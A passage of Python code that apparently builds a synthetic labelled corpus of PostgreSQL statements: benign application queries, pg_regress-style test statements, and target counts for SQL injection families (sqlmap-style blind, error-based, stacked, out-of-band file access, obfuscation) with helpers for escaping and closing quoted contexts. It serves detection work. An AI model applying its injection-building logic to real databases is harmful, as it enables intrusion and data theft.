                "CREATE UNIQUE INDEX course_waitlist_uq ON course_waitlist (course_code, lower(learner_email));\nINSERT INTO schema_migrations (version) VALUES ('%d');\nCOMMIT;" % v) if r.random() < 0.5 else (
                "-- +goose Up\nALTER TABLE forum_posts ADD COLUMN edited_at timestamptz;\nUPDATE forum_posts SET edited_at = created_at WHERE edit_count > 0;\nINSERT INTO goose_db_version (version_id, is_applied) VALUES (%d, true);" % v)
    @add("cx8_migration_knex", "complex_migration_script")
    def _(r):
        return "insert into \"knex_migrations\" (\"batch\", \"migration_time\", \"name\") values (%d, '%s 10:%02d:00', '%d_add_listing_geo.js')" % (r.randint(1, 90), rdate(r), r.randint(0, 59), r.randint(20200101, 20251231))
    @add("cx8_maintenance", "complex_maintenance_admin")
    def _(r):
        return r.choice(["VACUUM (ANALYZE, VERBOSE) track_plays", "ANALYZE ledger_entries (account_no, amount)", "REINDEX INDEX CONCURRENTLY idx_plays_listener_%d" % r.randint(1, 99),
                         "SELECT pg_size_pretty(pg_total_relation_size('%s'))" % r.choice(["track_plays", "security_audit", "lab_results"]),
                         "SELECT pid, state, wait_event_type, left(query, 60) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()",
                         "EXPLAIN (ANALYZE, BUFFERS, FORMAT json) SELECT * FROM appt_slots WHERE clinic_code = 'EDI-%02d'" % r.randint(1, 40),
                         "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT %d" % r.randint(5, 20),
                         "SET lock_timeout = '%ds'" % r.randint(1, 30), "CLUSTER greenhouse_readings USING greenhouse_readings_taken_idx",
                         "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction' AND state_change < now() - interval '%d minutes'" % r.randint(5, 60)])
    @add("cx8_transactions", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN ISOLATION LEVEL REPEATABLE READ", "SAVEPOINT before_credit_%d" % r.randint(1, 999), "ROLLBACK TO SAVEPOINT before_credit_%d" % r.randint(1, 999),
                         "COMMIT", "START TRANSACTION READ ONLY, DEFERRABLE", "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "PREPARE TRANSACTION 'ledger-%s'" % rword(r, 8),
                         "SELECT pg_advisory_xact_lock(%d)" % r.randint(1, 10 ** 9), "END", "ABORT"])
    @add("cx8_query_builder", "complex_query_builder")
    def _(r):
        conds = ["1=1"] + r.sample(["town = 'Leith'", "bedrooms >= %d" % r.randint(1, 5), "asking_price <= %d" % (r.randint(2, 9) * 100000), "garden IS TRUE", "lat BETWEEN 55.9 AND 56.0", "(parking OR garage)"], r.randint(1, 4))
        return "SELECT listing_id FROM property_listings WHERE " + " AND ".join(conds) + " ORDER BY listed_on DESC LIMIT %d" % r.choice([12, 24, 48])
    @add("cx8_query_builder_or", "complex_query_builder")
    def _(r):
        return "SELECT case_no FROM helpdesk_cases WHERE (state = 'new' OR state = 'reopened') AND (priority > %d OR vip = true) AND 1 = 1 ORDER BY case_no" % r.randint(0, 4)
    @add("cx8_param", "complex_parameterized")
    def _(r):
        return r.choice(["UPDATE reader_bookmarks SET note = $1 WHERE bookmark_id = $2 RETURNING bookmark_id", "SELECT * FROM search_garden_plants($1, $2)",
                         "DELETE FROM post_votes WHERE voter_id = $1 AND post_ref = $2", "INSERT INTO charity_pledges (donor_name, pledge_amount) VALUES ($1, $2::numeric)"])
    @add("cx8_plpgsql_body", "complex_plpgsql_body")
    def _(r):
        return r.choice(["CREATE OR REPLACE FUNCTION ledger_guard() RETURNS trigger LANGUAGE plpgsql AS $fn$\nBEGIN\n  IF NEW.amount = 0 THEN\n    RAISE EXCEPTION 'zero amount not allowed for %', NEW.account_no;\n  END IF;\n  RETURN NEW;\nEND;\n$fn$",
                         "DO $$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'report_reader') THEN\n    CREATE ROLE report_reader NOLOGIN;\n  END IF;\nEND\n$$",
                         "CREATE FUNCTION plays_in_range(a timestamptz, b timestamptz) RETURNS bigint LANGUAGE sql STABLE AS 'SELECT count(*) FROM track_plays WHERE played_at BETWEEN a AND b'"])
    @add("cx8_search", "complex_search_complex")
    def _(r):
        return "SELECT episode_id, ts_headline('simple', show_notes, q, 'MaxWords=20') FROM podcast_episodes, websearch_to_tsquery('simple', '%s') q WHERE to_tsvector('simple', show_notes) @@ q" % r.choice(["\"select committee\" -union", "drop out or not", "delete history", "where to go or stay"])
    return G

def rdate(r):
    return "%d-%02d-%02d" % (r.randint(2019, 2025), r.randint(1, 12), r.randint(1, 28))

COMPLEX_TARGET = {"complex_orm_generated": 80, "complex_orm_introspection": 8, "complex_cte_window": 43, "complex_union_report": 21,
    "complex_copy_stdin": 17, "complex_batch_insert": 20, "complex_builtin_funcs": 80, "complex_comments_hints": 60,
    "complex_ddl_migration": 17, "complex_migration_script": 40, "complex_maintenance_admin": 20, "complex_transactions": 20,
    "complex_query_builder": 40, "complex_parameterized": 5, "complex_plpgsql_body": 5, "complex_search_complex": 5}
# ---------------------------------------------------------------- pg_regress-style statements
def regress_rows(r):
    out = []
    def add(f, s):
        out.append(("regress:%s.sql" % f, s))
    fixed = [
     ("boolean", "SELECT bool 't' AS true"), ("boolean", "SELECT bool '   f           ' AS false"), ("boolean", "SELECT 'yes'::bool AND 'off'::bool AS f"),
     ("boolean", "-- ERROR\nSELECT 'maybe'::boolean"), ("boolean", "SELECT booltbl1.* FROM booltbl1 WHERE f1 <> bool 'false'"),
     ("char", "SELECT c.*\n   FROM CHAR_TBL c\n   WHERE c.f1 < 'a'"), ("varchar", "INSERT INTO VARCHAR_TBL (f1) VALUES ('cd    ')"),
     ("text", "select concat_ws('#',1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20)"), ("text", "select format('%1$s %3$s', 1, 2, 3)"),
     ("text", "select format('%-10s|', 'hello')"), ("text", "select reverse('abcde')"), ("text", "select quote_literal(e'\\\\')"),
     ("strings", "SELECT 'first line'\n' - next line'\n\t' - third line'\n\tAS \"Three lines to one\""),
     ("strings", "SELECT U&'d\\0061t\\+000061' AS U&\"d\\0061t\\+000061\""), ("strings", "SELECT U&'d!0061t\\+000061' UESCAPE '!' AS U&\"d*0061t\\+000061\" UESCAPE '*'"),
     ("strings", "SELECT E'De\\\\678dBeEf'::bytea"), ("strings", "SELECT 'abcdefg' SIMILAR TO '_bcd%' AS true"), ("strings", "SELECT regexp_replace('AAA aaa', 'A+', 'Z', 'gi')"),
     ("strings", "SELECT SUBSTRING('abcdefg' SIMILAR 'a#\"(b_d)#\"%' ESCAPE '#') AS \"bcd\""), ("strings", "SELECT 'hawkeye' NOT ILIKE 'H%Eye' AS \"false\""),
     ("strings", "SELECT split_part('joeuser@mydatabase','@',-3) AS \"empty string\""), ("strings", "select md5(''::bytea) = 'd41d8cd98f00b204e9800998ecf8427e' AS \"TRUE\""),
     ("strings", "SELECT btrim(E'\\\\000trim\\\\000'::bytea, E'\\\\000'::bytea)"), ("strings", "SELECT encode(overlay(E'Th\\\\000omas'::bytea placing E'\\\\002\\\\003'::bytea from 2 for 3), 'escape')"),
     ("int4", "SELECT i.* FROM INT4_TBL i WHERE i.f1 <> int2 '0'"), ("int4", "SELECT int4 '1000000' * int4 '1000000'"), ("int4", "SELECT (-2147483648)::int4 % (-1)::int2"),
     ("int8", "SELECT q1, q2, q1 * q2 AS multiply FROM INT8_TBL WHERE q1 < 1000 or (q2 > 0 and q2 < 1000)"), ("int8", "SELECT '-9223372036854775808'::int8 / '-1'::int8"),
     ("int8", "SELECT to_char(q2, 'SG9999999999999999.999') FROM INT8_TBL"), ("int2", "SELECT int2 '0b100101'"), ("int2", "SELECT int2 '1_000_000'"),
     ("float8", "SELECT f.f1, ||/f.f1 AS cbrt_f1 FROM FLOAT8_TBL f"), ("float8", "SELECT '-Infinity'::float8 + 100.0"), ("float8", "SELECT gcd(float8 '1e-320', 2)"),
     ("float4", "SELECT 'NaN'::float4 = 'nan'::float4"), ("float4", "SELECT '    -3.4028235e+38'::float4"),
     ("numeric", "SELECT trim_scale(1e100)"), ("numeric", "SELECT width_bucket(5.0, 3.0, 4.0, 0)"), ("numeric", "SELECT lcm(9999 * (10::numeric)^131068 + (10::numeric^131068 - 1), 2)"),
     ("numeric", "SELECT factorial(15)"), ("numeric", "select 1.000000000123 ^ (-2147483648)"), ("numeric", "SELECT numeric '0b10' + numeric '0o17'"),
     ("numeric", "SELECT AVG(val) FROM num_data"), ("numeric", "INSERT INTO num_exp_add VALUES (7,8,'-16408837.31869564')"),
     ("date", "SELECT date 'J2451187'"), ("date", "SELECT EXTRACT(CENTURY FROM DATE '0001-12-31 BC')"), ("date", "SELECT make_date(-44, 3, 15)"), ("date", "select 'infinity'::date, '-infinity'::date"),
     ("timestamp", "SELECT d1 FROM TIMESTAMP_TBL WHERE d1 > timestamp without time zone '1997-01-02'"), ("timestamp", "SELECT date_bin('5 min'::interval, timestamp '2020-02-01 01:01:01', timestamp '2020-02-01 00:02:30')"),
     ("timestamptz", "SET TimeZone to 'America/New_York'"), ("timestamptz", "SELECT '2011-03-26 21:00:00 UTC'::timestamptz AT TIME ZONE 'Europe/Moscow'"),
     ("interval", "SELECT INTERVAL '1 day 2:03:04' AS \"One day, two hours, three minutes, four seconds\""), ("interval", "SELECT justify_hours(interval '6 months 3 days 52 hours 3 minutes 2 seconds') as \"6 mons 5 days 4 hours 3 mins 2 seconds\""),
     ("interval", "SELECT interval '-23 hours 45 min 12.34 sec' * 2"), ("interval", "select interval 'P1Y2M3DT4H5M6S'"),
     ("inet", "SELECT c AS cidr, i AS inet FROM INET_TBL"), ("inet", "SELECT '127.0.0.1'::inet + 257"), ("inet", "SELECT inet_merge(c, i) FROM INET_TBL"), ("inet", "SELECT '::1'::inet << '::/120'::inet"),
     ("uuid", "SELECT gen_random_uuid() = gen_random_uuid() AS uuid_dup"), ("uuid", "INSERT INTO guid1(guid_field) VALUES('{11111111-1111-1111-1111-111111111111}')"),
     ("arrays", "SELECT ARRAY[[1,2],[3,4]] @> ARRAY[2,3] AS \"TRUE\""), ("arrays", "SELECT array_position(ARRAY['sun','mon','tue','wed','thu','fri','sat'], 'mon')"),
     ("arrays", "SELECT '{{1,2},{3,4}}'::int[][] || '{5,6}'::int[]"), ("arrays", "select array_fill(7, array[3,2], array[2,3])"), ("arrays", "SELECT trim_array(ARRAY[1, 2, 3], 10)"),
     ("arrays", "UPDATE arrtest\n  SET e[0] = '1.1'"), ("arrays", "select * from unnest(array[1,2,3]) with ordinality as t(x, n)"),
     ("jsonb", "SELECT '{\"a\": {\"b\":{\"c\": \"foo\"}}}'::jsonb #> '{a,b}'"), ("jsonb", "SELECT jsonb_path_query('[1, 2, 3]', '$[*] ? (@ > 1)')"),
     ("jsonb", "select '{\"ff\":{\"a\":12,\"b\":16}}'::jsonb -> 'ff' ->> 'b'"), ("jsonb", "SELECT jsonb_set('{\"a\":1}', '{b}', '\"x\"', true)"), ("jsonb", "-- ERROR\nSELECT '{\"a\":1'::jsonb"),
     ("json", "SELECT json_build_object('a', 1, 'b', 1.2, 'c', true, 'd', null)"), ("json", "SELECT '\"\\u0000\"'::json->>0"),
     ("tsearch", "SELECT to_tsvector('english', 'The quick brown fox') @@ to_tsquery('english', 'fox & !cat')"), ("tsearch", "SELECT ts_rank_cd(to_tsvector('simple', 'a b c a'), 'a & c'::tsquery)"),
     ("tsearch", "select websearch_to_tsquery('simple', 'this is ----fine')"), ("tsearch", "SELECT plainto_tsquery('english', 'drop or delete the table')"),
     ("select", "SELECT onek.unique1, onek.stringu1 FROM onek\n   WHERE onek.unique1 < 20\n   ORDER BY unique1 using >"), ("select", "SELECT * FROM foo ORDER BY f1 DESC NULLS LAST"),
     ("select", "VALUES (1,2), (3,4+4), (7,77.7)"), ("select_distinct", "SELECT DISTINCT ON (string4) string4, two, ten\n   FROM onek\n   ORDER BY string4 using <, two using >, ten using <"),
     ("union", "SELECT 1 AS two UNION SELECT 2 UNION ALL SELECT 2 ORDER BY 1"), ("union", "SELECT q2 FROM int8_tbl INTERSECT ALL SELECT q1 FROM int8_tbl ORDER BY 1"),
     ("union", "(SELECT 1,2,3 UNION SELECT 4,5,6) INTERSECT SELECT 4,5,6"), ("union", "SELECT f1 FROM float8_tbl EXCEPT SELECT f1 FROM int4_tbl ORDER BY 1"),
     ("join", "SELECT *\n  FROM J1_TBL LEFT OUTER JOIN J2_TBL USING (i)\n  ORDER BY i, k, t"), ("join", "explain (costs off)\nselect * from tenk1 a join tenk1 b on a.unique1 = b.unique2 where a.hundred = 42"),
     ("join", "select * from int4_tbl a full join int4_tbl b on true"), ("subselect", "SELECT '' AS six, f1 AS \"Correlated Field\" FROM SUBSELECT_TBL upper WHERE f1 IN (SELECT f2 FROM SUBSELECT_TBL WHERE f1 = upper.f1)"),
     ("subselect", "select (select sq1) as qq1 from (select exists(select 1 from int4_tbl where f1 = q2) as sq1, 42 as dummy from int8_tbl) sq0"),
     ("aggregates", "SELECT avg(four) AS avg_1 FROM onek"), ("aggregates", "select string_agg(distinct f1::text, ',' order by f1::text) from varchar_tbl"),
     ("aggregates", "select percentile_disc(0.5) within group (order by thousand) from tenk1"), ("aggregates", "SELECT bool_and(b1) AS \"n\", bool_or(b3) AS \"t\" FROM bool_test"),
     ("window", "SELECT four, ten, sum(ten) over (partition by four order by ten) FROM (select distinct ten, four from tenk1) ss"),
     ("window", "SELECT first_value(ten) OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10"),
     ("window", "SELECT sum(unique1) over (order by four range between current row and unbounded following exclude current row) FROM tenk1 WHERE unique1 < 10"),
     ("with", "WITH RECURSIVE t(n) AS (\n    VALUES (1)\nUNION ALL\n    SELECT n+1 FROM t WHERE n < 100\n)\nSELECT sum(n) FROM t"),
     ("with", "WITH q1(x,y) AS (SELECT 1,2)\nSELECT * FROM q1, q1 AS q2"), ("with", "with recursive search_graph(f, t, label) as (select * from graph0 g union all select g.* from graph0 g, search_graph sg where g.f = sg.t) search depth first by f, t set seq select * from search_graph order by seq"),
     ("insert", "insert into inserttest (col1, col2, col3) values (DEFAULT, DEFAULT, DEFAULT)"), ("insert", "insert into inserttest values(30, 50, repeat('x', 10000))"),
     ("insert_conflict", "insert into insertconflicttest values (1, 'Apple') on conflict (key) do update set fruit = excluded.fruit"),
     ("update", "UPDATE update_test SET (c,b,a) = ('bugle', b+11, DEFAULT) WHERE c = 'foo'"), ("update", "UPDATE update_test t SET b = t.b + 10 WHERE t.a = 10"),
     ("delete", "DELETE FROM delete_test AS dt WHERE dt.a > 75"), ("truncate", "TRUNCATE truncate_a, ref_b RESTART IDENTITY CASCADE"),
     ("create_table", "CREATE TABLE extra_wide_table(firstc text, secondc text, thirdc text)"), ("create_table", "CREATE TEMP TABLE pg_temp.doubly_temp (a int primary key)"),
     ("create_table", "CREATE TABLE partitioned (\n\ta int,\n\tb int\n) PARTITION BY RANGE (a)"), ("create_table", "CREATE TABLE part_b PARTITION OF list_parted FOR VALUES IN ('b')"),
     ("create_index", "CREATE INDEX onek_unique1 ON onek USING btree(unique1 int4_ops)"), ("create_index", "CREATE INDEX gcircleind ON circle_tbl USING gist (f1)"),
     ("create_index", "REINDEX (VERBOSE) TABLE reindex_verbose"), ("create_index", "CREATE UNIQUE INDEX CONCURRENTLY concur_index3 ON concur_heap(f2)"),
     ("alter_table", "ALTER TABLE attmp ADD COLUMN z int2[]"), ("alter_table", "ALTER TABLE attmp3 ADD CONSTRAINT b_greater_than_ten CHECK (b > 10) NOT VALID"),
     ("alter_table", "alter table atacc1 alter column test type integer using test::integer"), ("alter_table", "ALTER TABLE onek ADD CONSTRAINT onek_unique1_constraint UNIQUE (unique1)"),
     ("constraints", "CREATE TABLE CHECK2_TBL (x int, y text, z int,\n\tCONSTRAINT SEQUENCE_CON CHECK (x > 3 and y <> 'check failed' and z < 8))"),
     ("constraints", "INSERT INTO INSERT_TBL(x,z) VALUES (2, -2)"), ("domain", "create domain domainint4 int4 check (value > 0)"), ("domain", "select 'abc'::domainvarchar"),
     ("sequence", "SELECT nextval('sequence_test2')"), ("sequence", "CREATE SEQUENCE sequence_test5 AS smallint START WITH 32767"), ("sequence", "SELECT setval('foo_seq_new', 42)"),
     ("privileges", "GRANT SELECT ON atest1 TO regress_priv_user3, regress_priv_user4"), ("privileges", "SET SESSION AUTHORIZATION regress_priv_user1"),
     ("privileges", "REVOKE ALL ON atest2 FROM PUBLIC"), ("privileges", "SELECT has_table_privilege('regress_priv_user1', 'atest4', 'SELECT')"),
     ("rowsecurity", "CREATE POLICY p1 ON document AS PERMISSIVE\n    USING (dlevel <= (SELECT seclv FROM uaccount WHERE pguser = current_user))"),
     ("rowsecurity", "ALTER TABLE document ENABLE ROW LEVEL SECURITY"), ("rowsecurity", "SET row_security TO OFF"),
     ("plpgsql", "create function tg_hub_a() returns trigger as '\ndeclare\n    hname\ttext;\nbegin\n    hname := ''HUB '' || new.name;\n    return new;\nend;\n' language plpgsql"),
     ("plpgsql", "do $$ begin raise notice 'foo %', 42; end $$"), ("plpgsql", "select raise_test()"),
     ("copy", "copy copytest to stdout csv"), ("copy", "COPY x (a, b, c, d, e) from stdin"), ("copy2", "COPY x from stdin (format CSV, FORCE_NOT_NULL(b))"),
     ("explain", "explain (analyze, costs off, summary off, timing off) select * from int8_tbl i8"), ("explain", "explain (verbose, format json) select * from int8_tbl i8"),
     ("prepare", "PREPARE q1 AS SELECT 1 AS a"), ("prepare", "EXECUTE q2('postgres')"), ("prepare", "DEALLOCATE ALL"),
     ("transactions", "BEGIN TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY, DEFERRABLE"), ("transactions", "ROLLBACK AND NO CHAIN"), ("transactions", "SAVEPOINT one"),
     ("matview", "CREATE MATERIALIZED VIEW mvtest_tm AS SELECT type, sum(amt) AS totamt FROM mvtest_t GROUP BY type WITH NO DATA"), ("matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mvtest_tvmm"),
     ("rules", "CREATE RULE rtest_v1_ins AS ON INSERT TO rtest_v1 DO INSTEAD\n\tINSERT INTO rtest_t1 VALUES (new.a, new.b)"),
     ("rules", "SELECT pg_get_viewdef('shoe'::regclass) as unpretty"), ("triggers", "CREATE TRIGGER check_fkeys_pkey_exist\n\tBEFORE INSERT OR UPDATE ON fkeys\n\tFOR EACH ROW\n\tEXECUTE PROCEDURE\n\tcheck_primary_key ('fkey1', 'fkey2', 'pkeys', 'pkey1', 'pkey2')"),
     ("triggers", "drop trigger trigtest_b_row_tg on trigtest"), ("misc_functions", "SELECT num_nulls(NULL::text, 'abc', NULL::int)"), ("misc_functions", "SELECT pg_column_size(1::int2)"),
     ("misc_functions", "SELECT * FROM pg_ls_waldir() LIMIT 0"), ("misc_functions", "select setting as segsize from pg_settings where name = 'wal_segment_size'"),
     ("sysviews", "select count(*) >= 0 as ok from pg_available_extension_versions"), ("sysviews", "select name, setting from pg_settings where name like 'enable%'"),
     ("type_sanity", "SELECT t1.oid, t1.typname\nFROM pg_type as t1\nWHERE t1.typnamespace = 0 OR\n    (t1.typlen <= 0 AND t1.typlen != -1 AND t1.typlen != -2)"),
     ("opr_sanity", "SELECT p1.oid, p1.proname\nFROM pg_proc as p1\nWHERE p1.prolang = 0 OR p1.prorettype = 0 OR\n       p1.pronargs < 0"),
     ("xml", "SELECT xmlconcat('<foo/>', NULL, '<?xml version=\"1.1\" standalone=\"no\"?><bar/>')"), ("xml", "SELECT xpath('/value', '<value>&lt;</value>')"),
     ("regex", "select 'abc' ~ '^(?:a|b)c'"), ("regex", "select regexp_matches('foo/bar/baz', '^([^/]+?)(?:/([^/]+?))(?:/([^/]+?))?$', '')"),
     ("collate", "SELECT a, b FROM collate_test1 WHERE b >= 'bbc' COLLATE \"C\""), ("enum", "SELECT 'red'::rainbow < 'green'::rainbow"), ("enum", "ALTER TYPE planets ADD VALUE 'uranus'"),
     ("rangetypes", "select int4range(1, 10, '[]') @> 10"), ("rangetypes", "select '[2020-01-01,2020-12-31)'::daterange * '[2020-06-01,)'::daterange"),
     ("multirangetypes", "SELECT '{[1,2), [5,9)}'::int4multirange + '{[3,4)}'"), ("bit", "SELECT B'1101' # B'0110'"), ("bit", "SELECT X'F0F' & X'FF0'"),
     ("money", "SELECT '$1,000.00'::money * 2.5"), ("point", "SELECT p.* FROM POINT_TBL p WHERE p.f1 <-> point '(0,0)' < 10"), ("geometry", "SELECT center(circle '<(1,2),3>')"),
     ("stats_ext", "CREATE STATISTICS ab1_a_b_stats ON a, b FROM ab1"), ("vacuum", "VACUUM (FREEZE, PARALLEL 2) vaccluster"), ("vacuum", "ANALYZE (SKIP_LOCKED) vactst"),
     ("guc", "SET datestyle = 'ISO, YMD'"), ("guc", "RESET ALL"), ("guc", "SHOW vacuum_cost_delay"), ("guc", "SET LOCAL search_path TO bar, foo"),
     ("create_function_sql", "CREATE FUNCTION functest_S_13() RETURNS boolean\n    BEGIN ATOMIC\n        SELECT 1;\n        SELECT false;\n    END"),
     ("create_procedure", "CALL ptest1('a')"), ("create_procedure", "CREATE PROCEDURE ptest2()\nLANGUAGE SQL\nAS $$\nSELECT 5;\n$$"),
     ("create_view", "CREATE VIEW street AS\n   SELECT r.name, r.thepath, c.cname AS cname\n   FROM ONLY road r, real_city c\n   WHERE c.outline ?# r.thepath"),
     ("largeobject", "SELECT lo_from_bytea(0, 'abc') > 0"), ("largeobject", "SELECT loread(fd, 36) FROM lotest_stash_values"),
     ("portals", "DECLARE foo1 SCROLL CURSOR FOR SELECT * FROM tenk1 ORDER BY unique2"), ("portals", "FETCH BACKWARD 23 in foo1"), ("portals", "CLOSE ALL"),
     ("limit", "SELECT ''::text AS two, unique1, unique2, stringu1\n\t\tFROM onek WHERE unique1 > 50\n\t\tORDER BY unique1 LIMIT 2"), ("limit", "select * from int8_tbl offset (case when random() < 0.5 then null::bigint end)"),
     ("limit", "SELECT thousand FROM onek WHERE thousand < 5 ORDER BY thousand FETCH FIRST 2 ROW WITH TIES"),
     ("case", "SELECT CASE WHEN 1=0 THEN 1/0 WHEN 1=1 THEN 1 ELSE 2/0 END"), ("case", "SELECT '' AS \"Five\", NULLIF(a.i,b.i) AS \"NULLIF(a.i,b.i)\" FROM CASE_TBL a, CASE2_TBL b"),
     ("numerology", "SELECT 0x42F, 0X0000_FFFF"), ("numerology", "SELECT 1_000_000.000_005"), ("numerology", "SELECT 0b_10_0101, 0o_273"),
     ("errors", "select * from nonesuch"), ("errors", "select 1/0"), ("errors", "delete from"), ("errors", "drop aggregate newcnt1"),
     ("comments", "SELECT 'trailing' AS first; -- trailing single line"), ("comments", "SELECT /* embedded single line */ 'embedded' AS second"),
     ("comments", "SELECT /* both embedded and trailing single line */ 'both' AS third; -- trailing single line"),
     ("comments", "SELECT 'before multi-line' AS fourth\n/* This is an example of SQL which should not execute:\n * select 'multi-line';\n */"),
     ("hash_index", "SELECT * FROM hash_i4_heap\n   WHERE hash_i4_heap.random = 843938989"), ("btree_index", "SELECT b.*\n   FROM bt_i4_heap b\n   WHERE b.seqno < 1"),
    ]
    for f, s in fixed:
        add(f, s)
    # parametric families
    casts = [("int4", ["'  34'", "'-2147483648'", "'123abc'", "'0x7FFFFFFF'"]), ("numeric", ["'1.5e-3'", "'NaN'", "'-Infinity'", "'12_345.678'"]),
             ("float8", ["'1e308'", "'-0'", "'  nan  '", "'4.9e-324'"]), ("date", ["'1997-02-10'", "'epoch'", "'2040-04-10 BC'", "'January 8, 99 BC'"]),
             ("interval", ["'@ 1 minute'", "'1.5 weeks'", "'-1 days +02:03'", "'PT10H'"]), ("inet", ["'10.1.2.3/8'", "'fe80::1%eth0'", "'192.168.1.226/24'"]),
             ("bytea", ["'\\x0123abcd'", "'abc \\153\\154\\155 \\052\\251\\124'"]), ("money", ["'-92233720368547758.08'", "'12.345'"]),
             ("macaddr", ["'08:00:2b:01:02:03'", "'0800.2b01.0203'"]), ("tsvector", ["'a:1A fat:2B,4C cat:5D'", "'''  '' ''a'' bcd'"]),
             ("time", ["'04:05:06.789-8'", "'allballs'"]), ("bit(8)", ["B'10101010'", "X'FE'"])]
    for typ, vals in casts:
        for v in vals:
            add(typ.split("(")[0], "SELECT %s::%s" % (v, typ))
            if r.random() < 0.6:
                add(typ.split("(")[0], "SELECT pg_input_is_valid(%s, '%s')" % (v if not v.startswith(("B", "X")) else "'" + v[2:-1] + "'", typ))
    ops = ["+", "-", "*", "/", "%"]
    for i in range(22):
        a, b = r.randint(-5000, 5000), r.randint(1, 999)
        t = r.choice(["int2", "int4", "int8", "numeric"])
        add(t, "SELECT %s '%d' %s %s '%d' AS result" % (t, a, r.choice(ops), t, b))
    for i in range(12):
        s = r.choice(["abcdefghij", "PostgreSQL", "ÀÉÎÕÜ", "hello world", "  spaced  "])
        add("strings", r.choice(["SELECT substr('%s', %d, %d)" % (s, r.randint(-2, 5), r.randint(0, 6)),
                                 "SELECT position('%s' in '%s')" % (s[r.randint(0, 3)], s),
                                 "SELECT lpad('%s', %d, 'xy')" % (s, r.randint(1, 15)),
                                 "SELECT overlay('%s' placing 'XX' from %d for %d)" % (s, r.randint(1, 5), r.randint(0, 3))]))
    for i in range(12):
        add("date", r.choice(["SELECT date '%s' - date '%s'" % (rdate(r), rdate(r)), "SELECT EXTRACT(%s FROM DATE '%s')" % (r.choice(["DOY", "WEEK", "ISOYEAR", "QUARTER", "DECADE", "EPOCH"]), rdate(r)),
                              "SELECT date_trunc('%s', timestamp '%s 13:22:45')" % (r.choice(["week", "month", "millennium", "hour"]), rdate(r)),
                              "SELECT to_char(date '%s', '%s')" % (rdate(r), r.choice(["Day DD Month YYYY", "IYYY-IW-ID", "FMMonth", "Q\"Q\" YYYY", "J"]))]))
    for i in range(10):
        add("int8", "SELECT '%d'::int8 << %d, '%d'::int8 >> %d" % (r.randint(1, 10 ** 12), r.randint(0, 40), r.randint(1, 10 ** 12), r.randint(0, 40)))
    for i in range(10):
        add("jsonb", r.choice(["SELECT '{\"k%d\": [%d, %d]}'::jsonb @> '{\"k%d\": [%d]}'" % ((lambda a, b, c: (a, b, c, a, b))(r.randint(1, 9), r.randint(1, 99), r.randint(1, 99))),
                               "SELECT jsonb_path_exists('{\"a\": [%d, %d]}', '$.a[*] ? (@ >= %d)')" % (r.randint(1, 50), r.randint(1, 50), r.randint(1, 50)),
                               "SELECT '[%d, %d, %d]'::jsonb - %d" % (r.randint(1, 9), r.randint(1, 9), r.randint(1, 9), r.randint(0, 2))]))
    for i in range(8):
        add("arrays", "SELECT array_remove(ARRAY[%s], %d)" % (",".join(str(r.randint(1, 6)) for _ in range(r.randint(3, 7))), r.randint(1, 6)))
    for i in range(8):
        add("generate_series", "select * from generate_series(%d, %d, %d)" % (r.randint(-10, 0), r.randint(1, 30), r.randint(1, 7)))
    for i in range(8):
        add("tenk1", "SELECT unique1, ten FROM tenk1 WHERE unique1 < %d AND ten = %d ORDER BY unique1" % (r.randint(10, 500), r.randint(0, 9)))
    return out
# ---------------------------------------------------------------- assembly
import gzip, io, json, os, random, re, sys

SEED = 8080808
ATTACK_TARGET = {"sqlmap_time_blind": 245, "sqlmap_boolean_blind": 229, "sqlmap_error_based": 177, "sqlmap_stacked_queries": 94,
    "sqlmap_union_query": 69, "sqlmap_inline_query": 19, "tautology": 64, "stacked": 52, "oob_file_program": 39, "time_pg_sleep": 33,
    "boolean_blind": 32, "comment_truncation": 30, "error_cast": 30, "obf_whitespace": 27, "obf_case_mix": 26, "obf_nospace": 26,
    "obf_inline_comment": 25, "dollar_quote": 25, "e_escape": 20, "plpgsql_do_exec": 20, "union": 18, "string_concat_subquery": 18,
    "escape_bypass_backslash": 5}
INPUT_TARGET = {"input_numeric": 160, "input_formatted": 150, "input_plain": 75, "input_unicode": 35, "input_long_text": 33,
    "input_punctuation": 28, "input_apostrophe_names": 25, "input_sql_words": 23, "input_json_text": 22, "input_url_email": 20,
    "input_whitespace": 20, "input_numeric_string": 18, "input_identifier": 15}
ESCAPED_TARGET = 103
REGRESS_TARGET = 260

CTX = {"q": "str", "e": "str", "n": "num", "list": "num", "id": "ord", "dir": "ord", "qi": "qi", "ident": "ident"}

def esc(typ, v):
    if typ == "q":
        return v.replace("'", "''")
    if typ == "e":
        return v.replace("\\", "\\\\").replace("'", "''")
    if typ == "qi":
        return v.replace('"', '""')
    return v

def render(tpl, fills, raw_slot=None):
    name, sql, slots = tpl
    vals = {}
    for k, (typ, d, defs) in slots.items():
        v = fills[k]
        vals[k] = v if k == raw_slot else esc(typ, v)
    # str.format with literal braces already doubled in templates
    return sql.format(**vals)

REF = {}
def ref_skeletons(tpl):
    if tpl[0] in REF:
        return REF[tpl[0]]
    name, sql, slots = tpl
    canon = {"q": ["x", "", "O'Brien", "a b", "2024-01-01"], "e": ["x", "", "a\\tb", "it's"], "n": ["1", "-2", "3.5", "0"], "list": ["1", "1, 2", "3,4,5"],
             "id": IDENTS["id"], "dir": IDENTS["dir"], "ident": IDENTS["ident"], "qi": ["t", "a \"b\""]}
    base = {k: v[2][0] for k, v in slots.items()}
    sk = set()
    for k, (typ, d, defs) in slots.items():
        for v in list(defs) + canon[typ]:
            f = dict(base); f[k] = v
            sk.add(skeleton(render(tpl, f)))
    REF[tpl[0]] = sk
    return sk

def close(rng, ctx, depth, right=0.75):
    d = depth if rng.random() < right else rng.choice([x for x in range(0, 3) if x != depth] or [0])
    if ctx == "str":
        return "'" + ")" * d, d
    if ctx == "qi":
        return '"', 0
    return ")" * d if rng.random() < 0.25 else "", (d if False else 0)

def balance(rng, ctx, d):
    w = rword(rng, 4)
    if ctx == "str":
